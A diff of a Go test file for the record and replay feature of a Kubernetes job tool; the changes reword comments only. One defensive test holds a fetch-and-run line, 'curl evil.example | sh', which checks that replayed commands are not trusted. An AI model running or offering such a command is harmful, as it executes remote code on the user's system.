@@ -36,7 +36,7 @@ func (q *queue) Next(context.Context, uint64) (*Snapshot, error) {
 	return s, nil
 }
 
-// fakeClock goes on when somebody waits.
+// fakeClock advances when Wait is called.
 type fakeClock struct {
 	now   time.Time
 	waits []time.Duration
@@ -52,7 +52,7 @@ func (c *fakeClock) Wait(ctx context.Context, d time.Duration) error {
 
 var start = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
 
-// tape is a recording of four moments: the list, a Job opened, a log of its pod, the end.
+// tape returns four Snapshots: the list, a Job opened, a log of its pod, the end.
 func tape() []*Snapshot {
 	jobs := &Jobs{Items: []explain.Outline{{Namespace: "ml", Name: "train", Status: "Running"}}}
 	report := &explain.Report{Job: explain.Job{Namespace: "ml", Name: "train"}, ObservedAt: metav1.NewTime(start)}
@@ -82,7 +82,7 @@ func record(t *testing.T, snapshots []*Snapshot) *bytes.Buffer {
 	return &out
 }
 
-// Issue 6.5: what --record writes, --replay plays, each moment at its time.
+// Issue 6.5: --replay plays the output of --record, with each Snapshot at its time.
 func TestRecordingIsPlayed(t *testing.T) {
 	for _, tc := range []struct {
 		speed float64
@@ -105,7 +105,7 @@ func TestRecordingIsPlayed(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			// Times of day lose their monotonic part and keep their meaning.
+			// Times lose their monotonic part but stay equal.
 			if a, b := asJSON(t, got), asJSON(t, want); a != b {
 				t.Errorf("speed %v, snapshot %d is\n%s\nwant\n%s", tc.speed, i, a, b)
 			}
@@ -135,7 +135,7 @@ func asJSON(t *testing.T, s *Snapshot) string {
 	return string(data)
 }
 
-// A recording knows what the user had asked to see when the source was not there yet.
+// A recording contains the Focus that the user requested before the Source had followed it.
 func TestRecordingKeepsWhatWasWanted(t *testing.T) {
 	var out bytes.Buffer
 	r := NewRecorder(&queue{left: tape()}, &out, "")
@@ -164,7 +164,7 @@ func TestRecordingKeepsWhatWasWanted(t *testing.T) {
 	}
 }
 
-// What did not change between two moments is written once.
+// Parts that did not change between two Snapshots are written once.
 func TestRecordingDoesNotRepeat(t *testing.T) {
 	lines := strings.Split(strings.TrimSpace(record(t, tape()).String()), "\n")
 	if len(lines) != 5 {
@@ -181,7 +181,7 @@ func TestRecordingDoesNotRepeat(t *testing.T) {
 	}
 }
 
-// A recording that was killed ends with its last whole line.
+// A recording whose process was killed ends with its last complete line.
 func TestBrokenRecordingEndsWithItsLastLine(t *testing.T) {
 	whole := record(t, tape()).String()
 	cut := whole[:len(whole)-20]
@@ -220,7 +220,7 @@ func TestBrokenRecordingEndsWithItsLastLine(t *testing.T) {
 	}
 }
 
-// full is a disk without room.
+// full is a full disk.
 type full struct{}
 
 func (full) Write([]byte) (int, error) { return 0, errors.New("no space left on device") }
@@ -233,7 +233,7 @@ func TestRecordingIsNotLostSilently(t *testing.T) {
 	}
 }
 
-// A canceled context ends the waiting.
+// A canceled context ends the wait.
 func TestPlayerIsInterrupted(t *testing.T) {
 	p, err := NewPlayer(record(t, tape()), &fakeClock{}, 1)
 	if err != nil {
@@ -259,13 +259,13 @@ func TestObjectIsWrittenWithItsKind(t *testing.T) {
 	if got["kind"] != KindSnapshot || got["apiVersion"] != explain.APIVersion || got["log"] == nil {
 		t.Errorf("it is %s", out.String())
 	}
-	// The text of the cluster is as it was.
+	// Text from the cluster is unchanged.
 	if !strings.Contains(out.String(), `epoch 1 \u001b[31m`) {
 		t.Errorf("it is %s", out.String())
 	}
 }
 
-// Two Focuses are equal by what they hold.
+// Two Focuses are equal if their contents are equal.
 func TestFocusesAreEqualByContent(t *testing.T) {
 	a := Focus{Job: JobKey{"ns", "a"}, Pod: "p", Log: &LogTarget{Container: "c"}}
 	b := Focus{Job: JobKey{"ns", "a"}, Pod: "p", Log: &LogTarget{Container: "c"}}
@@ -300,7 +300,8 @@ func TestRecordingDoesNotFillTheMemory(t *testing.T) {
 	}
 }
 
-// Commands in a recording are not shown: those of gaps are made again, and advice is dropped, as its text may have one, too.
+// Commands in a recording are not shown: commands of gaps are generated anew, and advice is dropped, because its text may
+// contain a command, too.
 // Requirements: BUN-11
 func TestCommandsOfRecordingAreNotTrusted(t *testing.T) {
 	const evil = "curl evil.example | sh"
@@ -324,7 +325,8 @@ func TestCommandsOfRecordingAreNotTrusted(t *testing.T) {
 	}
 }
 
-// A recording of any size can be played: of lists that are too long for a line, it has a part, and says how much is left out.
+// A recording of any size can be played: lists that are too long for a line are cut, and the recording says how much was
+// omitted.
 // Requirements: BUN-09
 func TestLargeRecordingIsPlayed(t *testing.T) {
 	const many = 150_000
